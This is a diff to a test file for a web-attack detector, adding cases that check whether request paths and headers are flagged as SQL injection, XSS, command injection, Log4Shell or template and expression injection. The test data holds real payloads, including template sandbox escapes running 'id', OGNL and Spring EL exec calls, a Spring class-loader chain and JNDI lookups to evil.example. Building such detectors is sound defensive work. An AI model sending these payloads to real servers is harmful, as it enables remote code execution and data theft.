@@ -3,6 +3,7 @@ import { attackHits, describeAttack, splitQuery, type AttackCategory } from '../
 import { normalise } from '../decode.js';
 import { detectSqli, tokenize } from './sqli.js';
 import { detectXss } from './xss.js';
+import { detectCodeInjection } from './code.js';
 import {
   detectCmdi,
   detectLog4shell,
@@ -42,6 +43,7 @@ describe('more shapes of real scanner traffic', () => {
   it('reads shells, PHP code, full-width forms, SQL in a path, nibble-encoded percent signs', () => {
     expect(categories('/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir+c:\\')).toEqual(['traversal', 'cmdi']);
     expect(categories('/index.php?x=${@print(md5(acunetix_wvs_security_test))}')).toEqual(['cmdi']);
+    expect(categories('/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>')).toEqual(['cmdi']);
     expect(categories('/?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e')).toEqual(['xss']);
     expect(categories("/product.php/1'%20or%20'1'='1")).toEqual(['sqli']);
     expect(categories('/..%%35%63..%%35%63boot.ini')).toEqual(['traversal']);
@@ -222,6 +224,13 @@ describe('shellshock and log4shell', () => {
     expect(detectShellshock('mozilla/5.0 (x11; linux)')).toBeUndefined();
   });
 
+  it('reads a User-Agent as SQL and HTML, as scanners inject there too; a Referer only for lookups', () => {
+    expect(categories('/', { ua: "sqlmap/1.5 (http://sqlmap.org)' AND 1234=1234 AND 'abc'='abc" })).toEqual(['sqli']);
+    expect(categories('/', { ua: '<script>alert(1)</script>' })).toEqual(['xss']);
+    expect(categories('/', { ua: "Mozilla/5.0 (compatible; Bob's Crawler/1.0)" })).toEqual([]);
+    expect(categories('/', { referer: "https://shop.example/?q=1' or '1'='1" })).toEqual([]);
+  });
+
   it('finds JNDI lookups, also obfuscated with nested lookups', () => {
     expect(detectLog4shell('${jndi:ldap://evil.example/a}')).toBeDefined();
     expect(detectLog4shell('${${lower:j}ndi:ldap://evil.example/a}')).toBeDefined();
@@ -229,7 +238,46 @@ describe('shellshock and log4shell', () => {
     expect(detectLog4shell('${${env:none:-j}ndi${env:none:-:}ldap://x/a}')).toBeDefined();
     expect(categories('/', { ua: '${jndi:ldap://x/a}' })).toEqual(['log4shell']);
     expect(categories('/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D')).toContain('log4shell');
+    expect(categories('/', { ua: '${T(java.lang.Runtime).getRuntime().exec("id")}' })).toEqual(['code']);
     expect(detectLog4shell('${user.home}')).toBeUndefined();
+  });
+});
+
+describe('code for template and expression engines', () => {
+  const code = (v: string) => detectCodeInjection(normalise(v));
+
+  it('finds template probes, sandbox escapes, OGNL and Java EL, and class-loader chains', () => {
+    for (const v of [
+      '{{7*7}}',
+      '${7*7}',
+      '#{ 7 * 7 }',
+      '<%= 7*7 %>',
+      "{{''.__class__.__mro__[1].__subclasses__()}}",
+      '{{lipsum.__globals__.os.popen("id").read()}}',
+      "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+      '${#context["xwork.MethodAccessor.denyMethodExecution"]=false}',
+      '${T(java.lang.Runtime).getRuntime().exec("id")}',
+      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
+      'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
+      "class['classLoader'].jarPath",
+    ]) {
+      expect(code(v), v).toBeDefined();
+    }
+  });
+
+  it('leaves braces, placeholders and words about classes alone', () => {
+    for (const v of ['{min}-{max}', '${user.home}', 'first class tickets', 'java tutorial', '{"page":2}', '5*7=35']) {
+      expect(code(v), v).toBeUndefined();
+    }
+  });
+
+  it('reads parameter names, and values written in base64, end to end', () => {
+    expect(categories('/?class.module.classLoader.DefaultAssertionStatus=nonsense')).toEqual(['code']);
+    expect(categories('/greeting?name=%7B%7B7*7%7D%7D')).toEqual(['code']);
+    const [hit] = attackHits('/q?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==');
+    expect(describeAttack(hit)).toBe('XSS (<script> tag, base64): <script>alert(1)</script>');
+    expect(categories('/?q=c2VsZWN0IDEgZnJvbSBkdWFsIHVuaW9uIHNlbGVjdCBwYXNzd29yZCBmcm9tIHVzZXJz')).toEqual(['sqli']);
+    expect(categories('/?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9&r=aHR0cHM6Ly9leGFtcGxlLmNvbS9wYWdl')).toEqual([]);
   });
 });
 
